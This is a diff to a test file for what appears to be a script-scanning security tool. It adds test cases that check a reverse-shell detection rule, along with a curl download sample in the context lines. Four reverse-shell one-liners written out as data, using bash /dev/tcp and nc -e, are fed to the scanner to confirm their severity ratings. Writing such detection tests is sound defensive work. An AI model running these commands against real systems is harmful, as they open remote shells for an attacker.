@@ -377,3 +377,16 @@ test('text without known names is scanned if it calls a file that another script
   check(fetched, []);
   check({ ...fetched, 'b.sh': 'curl -o starter https://setup.example/2' }, highDownload);
 });
+
+test.for<readonly [string, string]>([
+  ['bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1', 'high'],
+  ['nc -e /bin/bash YOUR_IP 4444', 'high'],
+  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'critical'],
+  ['bash -i >& /dev/tcp/$LHOST/4444 0>&1', 'critical'],
+])('a remote shell to a placeholder connects nothing: %s is %s', ([text, severity]) =>
+  expect(
+    findingsOf({ 'a.sh': text })
+      .filter(({ rule }) => rule === 'execution/reverse-shell')
+      .map((finding) => finding.severity),
+  ).toEqual([severity]),
+);
